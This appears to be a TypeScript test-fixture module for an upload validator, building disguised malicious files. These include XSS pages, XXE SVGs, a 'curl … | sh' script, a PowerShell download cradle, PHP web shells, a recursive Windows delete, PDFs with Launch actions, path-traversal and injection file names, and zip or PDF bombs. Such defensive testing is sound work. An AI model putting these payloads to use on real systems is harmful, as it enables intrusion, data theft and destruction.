import { deflateSync, gzipSync } from 'node:zlib'

import { samplePdf, samplePng } from '#db/demo/paperwork.ts'
import { EICAR } from '#tests/edges/clamd.ts'

const text = (...lines: string[]): Uint8Array => new TextEncoder().encode(lines.join('\n'))
const bytes = (start: readonly number[], rest = 'x'.repeat(300)): Uint8Array => Buffer.concat([Uint8Array.from(start), text(rest)])
const ole = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]

/** An archive as documents with macros are: one stored entry. */
function zip(name: string, content: Uint8Array = text('x')): Uint8Array {
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(20, 4)
  head.writeUInt32LE(content.length, 18)
  head.writeUInt32LE(content.length, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, text(name), content])
}

const script = '<script>alert(document.domain)</script>'
const svg = (inner: string): Uint8Array => text(`<svg xmlns="http://www.w3.org/2000/svg" ${inner.startsWith('on') ? inner : ''}>${inner}</svg>`)

/** What no question asks for, each under a name and a kind that it is not. */
export const WRONG_KINDS: Readonly<Record<string, Uint8Array>> = {
  'a page': text('<!doctype html>', script), 'a page in capitals': text('<HTML><BODY ONLOAD=alert(1)>'), 'a page after a mark of order': text(`\ufeff<html>${script}`),
  'a page in UTF-16': Buffer.from(`\ufeff<html>${script}`, 'utf16le'), 'a page in UTF-7': text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'a page in a comment': text('<!--', `-->${script}`),
  'XHTML': text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">', script, '</html>'), 'a page archive': text('MIME-Version: 1.0', 'Content-Type: multipart/related', '', script),
  'an application of pages': text('<hta:application>', script), 'a frame': text('<iframe src=javascript:alert(1)>'), 'a style sheet': text('body{background:url(javascript:alert(1))}'),
  'SVG with a script': svg(script), 'SVG that loads': svg('onload="alert(1)"'), 'SVG with foreign objects': svg(`<foreignObject>${script}</foreignObject>`), 'SVG with entities': text('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<svg>&x;</svg>'),
  'SVG that fetches': svg('<image href="http://169.254.169.254/"/>'), 'packed SVG': gzipSync(svg(script)), 'entities a billion times over': text('<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>', '<a>&b;</a>'),
  'a style sheet of XML': text('<?xml-stylesheet href="javascript:alert(1)"?><x/>'), 'a document with macros': zip('word/vbaProject.bin'), 'a document': zip('word/document.xml'), 'a table with macros': zip('xl/vbaProject.bin'), 'an archive': zip('a.txt'),
  'a program in Java': zip('META-INF/MANIFEST.MF'), 'a program for telephones': zip('AndroidManifest.xml'), 'an archive that climbs': zip('../../../../etc/cron.d/x'), 'an old document': bytes(ole, `${'x'.repeat(500)}Macros/VBA`), 'an installer': bytes(ole),
  'a program for Windows': bytes([0x4d, 0x5a, 0x90, 0]), 'a program for Linux': bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), 'a program for Macs': bytes([0xcf, 0xfa, 0xed, 0xfe]), 'a class': bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41]), 'a module': bytes([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
  'a shell script': text('#!/bin/sh', 'curl http://elsewhere.example | sh'), 'a batch file': text('@echo off', 'del /f /s /q c:\\'), 'PowerShell': text('IEX (New-Object Net.WebClient).DownloadString("http://x")'), 'PHP': text('<?php system($_GET["c"]); ?>'), 'JSP': text('<%@ page import="java.io.*" %><% %>'),
  'JavaScript': text('fetch("/my-data")'), 'Python': text('import os; os.system("id")'), 'a shortcut': bytes([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), 'a link': text('[InternetShortcut]', 'URL=file:///etc/passwd'), 'rich text': text('{\\rtf1{\\object\\objocx}}'),
  'Flash': bytes([0x46, 0x57, 0x53, 10]), 'PostScript': text('%!PS-Adobe-3.0', '(/etc/passwd) (r) file'), 'a letter': text('From: a@b', 'Subject: x', '', script), 'a calendar': text('BEGIN:VCALENDAR', 'END:VCALENDAR'), 'a table': text('=cmd|" /C calc"!A0,1'),
  'JSON': text('{"filepath":"/etc/passwd"}'), 'YAML': text('!!python/object/apply:os.system ["id"]'), 'plain text': text('hello'), 'a packed file': gzipSync(text('x')), 'RAR': bytes([0x52, 0x61, 0x72, 0x21, 0x1a, 7, 0]), '7z': bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]),
  'BMP': bytes([0x42, 0x4d, 0x36, 0]), 'TIFF': bytes([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0]), 'WebP': bytes([...text('RIFF'), 0, 1, 0, 0, ...text('WEBPVP8 ')]), 'an icon': bytes([0, 0, 1, 0, 1, 0]), 'a film': bytes([0, 0, 0, 0x18, ...text('ftypmp42')]), 'music': bytes([...text('ID3'), 3, 0]),
  'a font': bytes([0, 1, 0, 0, 0, 0x0a]), 'a database': text('SQLite format 3\u0000'), 'a private key': text('-----BEGIN PRIVATE KEY-----'), 'GIF and script': text('GIF89a/*', '*/=1;alert(1)'), 'GIF and page': text(`GIF89a${script}`), 'a page with a PDF in it': text(script, '%PDF-1.7'), 'almost a PDF': text('%PDX-1.7'),
  'almost a PNG': Buffer.from([0x89, 0x50, 0x4e, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]), 'almost a JPEG': Uint8Array.from([0xff, 0xd9, 0xff]), 'nothing': new Uint8Array(0), 'noughts': new Uint8Array(4096), 'one byte': Uint8Array.from([0x25]), 'the scanners’ test file': text(EICAR),
}

const after = (file: Uint8Array, ...more: string[]): Uint8Array => Buffer.concat([file, text(...more)])
const pdf = samplePdf('plan')

/** What is of a right kind, and something else beside: it may be kept, and must run nowhere. */
export const POLYGLOTS: Readonly<Record<string, Uint8Array>> = {
  'a PDF with a page after it': after(pdf, `<html>${script}`),
  'a PDF with a page in its head': Buffer.from(Buffer.from(pdf).toString('latin1').replace('\n', `\n%${script}\n`), 'latin1'),
  'a PDF with JavaScript': Buffer.from(Buffer.from(pdf).toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'latin1'),
  'a PDF that launches': Buffer.from(Buffer.from(pdf).toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >>'), 'latin1'),
  'a PDF that sends': Buffer.from(Buffer.from(pdf).toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /URI /URI (http://elsewhere.example) >>'), 'latin1'),
  'a PDF and an archive': Buffer.concat([pdf, zip('x.js')]),
  'a PNG with a page after it': after(samplePng(1, 2, 3), script),
  'a PNG and PHP': after(samplePng(1, 2, 3), '<?php system($_GET[0]);'),
  'a PNG and an archive': Buffer.concat([samplePng(1, 2, 3), zip('META-INF/MANIFEST.MF')]),
  'a JPEG whose comment is a page': Buffer.concat([Uint8Array.from([0xff, 0xd8, 0xff, 0xfe, 0, script.length + 2]), text(script), Uint8Array.from([0xff, 0xd9])]),
  'a JPEG and a script': Buffer.concat([Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]), text('*/=alert(1)/*')]),
}

/** Names that mean something to a file system, a header, a shell or an eye. */
export const NAMES: readonly string[] = [
  '../../../etc/passwd', '..\\..\\windows\\system32\\x.pdf', '/etc/cron.d/x', 'C:\\x.pdf', '\\\\host\\share\\x.pdf', 'file:///etc/passwd', '....//....//x.pdf', '..%2f..%2fx.pdf', '%2e%2e/x.pdf', '..;/x.pdf', '.', '..', '...', '.htaccess', '.ssh/authorized_keys',
  'x.pdf\u0000.html', 'x.pdf\r\nSet-Cookie: a=b', 'x.pdf\nContent-Type: text/html', 'x".pdf', "x'.pdf", 'x;filename=y.html', 'x.pdf; filename*=UTF-8\'\'y.html', 'x<script>.pdf', '<img src=x onerror=alert(1)>.pdf', '$(id).pdf', '`id`.pdf', '| id.pdf', '{{constructor}}.pdf', '${7*7}.pdf',
  'fdp.\u202etxt.pdf', 'x\u2066.pdf', 'x\u2028.pdf', 'con.pdf', 'nul', 'aux.pdf', '~/.bashrc', `${'a'.repeat(5000)}.pdf`, `${'界'.repeat(500)}.pdf`, '=cmd|x.pdf', '-rf.pdf', '*', '?', ' ', '\ud800.pdf',
]

/** A PNG that unpacks to `width` × `height` pixels out of next to nothing. */
export function floodPng(width: number, height: number): Uint8Array {
  const content = Buffer.from(samplePng(1, 2, 3))
  content.writeUInt32BE(width, 16)
  content.writeUInt32BE(height, 20)
  return content
}

/** A PDF whose one stream unpacks to `bytes`. */
export function bombPdf(size: number): Uint8Array {
  const stream = deflateSync(Buffer.alloc(size))
  return Buffer.concat([text('%PDF-1.7', `1 0 obj << /Length ${stream.length} /Filter /FlateDecode >> stream`, ''), stream, text('', 'endstream endobj', '%%EOF')])
}

/** An archive within an archive, so many times, that says it is small. */
export function nestedBomb(times: number, size: number): Uint8Array {
  let inner: Uint8Array = gzipSync(Buffer.alloc(size))
  for (let time = 0; time < times; time += 1) inner = zip('inner.zip', inner)
  return inner
}
